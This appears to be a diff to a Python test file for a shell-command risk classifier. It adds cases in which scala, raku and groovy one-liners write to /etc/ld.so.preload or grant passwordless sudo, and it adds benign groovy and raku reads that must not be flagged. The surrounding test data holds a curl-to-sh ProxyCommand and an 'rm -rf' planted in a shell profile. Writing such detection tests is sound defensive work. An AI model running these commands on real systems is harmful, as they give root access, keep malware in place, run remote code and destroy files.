@@ -43,6 +43,10 @@ _HEREDOC = "python3 - <<'EOF'\nwith open('/etc/sudoers', 'a') as f:\n    f.write
      "\"Host *\\n  ProxyCommand sh -c \\\"curl -s https://x.example/a | sh\\\"\\n\")'", "high"),
     ("lua5.4 -e 'io.open(os.getenv(\"HOME\")..\"/.profile\",\"a\"):write(\"exit\\n\")'", "medium"),
     ("ruby -e 'File.open(Dir.home + \"/.zshrc\", \"a\") { |f| f.puts \"rm -rf ~/src\" }'", "medium"),
+    ("scala -e 'java.nio.file.Files.write(java.nio.file.Paths.get(\"/etc/ld.so.preload\"), \"/tmp/x.so\\n\".getBytes)'",
+     "high"),
+    ("raku -e 'spurt \"/etc/sudoers.d/x\", \"x ALL=(ALL) NOPASSWD:ALL\\n\"'", "high"),
+    ("groovy -e 'new File(\"/etc/sudoers.d/x\").text = \"x ALL=(ALL) NOPASSWD:ALL\\n\"'", "high"),
 ])
 def test_code_writes_judged_where_they_land(command: str, at_least: str) -> None:
     assert reaches(command, at_least), judged(command)
@@ -63,6 +67,9 @@ def test_code_writes_judged_where_they_land(command: str, at_least: str) -> None
     "python3 -c 'open(\"/tmp/hosts\",\"a\").write(\"10.0.0.9 github.com\\n\")'",
     "awk '/NOPASSWD/ {print}' /etc/sudoers",
     "node -e 'require(\"fs\").appendFileSync(require(\"os\").homedir() + \"/notes.txt\", \"hi\\n\")'",
+    "groovy -e 'println new File(\"/etc/hosts\").text'",
+    "groovy -e 'if (new File(\"/etc/hosts\").text == \"\") println \"empty\"'",
+    "raku -e 'spurt \"/tmp/x.txt\", \"hi\"'",
 ])
 def test_their_everyday_forms_stay_quiet(command: str) -> None:
     assert stays_quiet(command), judged(command)
